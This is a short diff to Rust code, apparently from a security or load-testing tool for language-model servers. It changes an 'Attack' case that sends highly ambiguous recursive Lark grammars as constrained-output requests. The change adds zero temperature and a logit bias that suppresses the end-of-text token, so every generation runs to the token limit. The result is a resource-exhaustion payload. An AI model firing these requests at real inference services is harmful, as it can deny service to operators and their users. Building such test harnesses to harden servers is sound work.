@@ -126,7 +126,9 @@ impl Attack {
                 let grammars = ["start: a\na: a a | /x/", "start: a\na: a a a | a a | /x/ | \"\""];
                 let bodies = grammars.map(|grammar| {
                     let format = json!({ "type": "lark", "grammar": grammar });
-                    json!({ "prompt": "x", "max_tokens": 400, "response_format": format })
+                    // Without what ends the built-in model's texts it goes on to its last token.
+                    json!({ "prompt": "x", "max_tokens": 400, "temperature": 0, "logit_bias": { "1": -100 },
+                        "response_format": format })
                 });
                 hostile.repeat(completions, &bodies)
             }
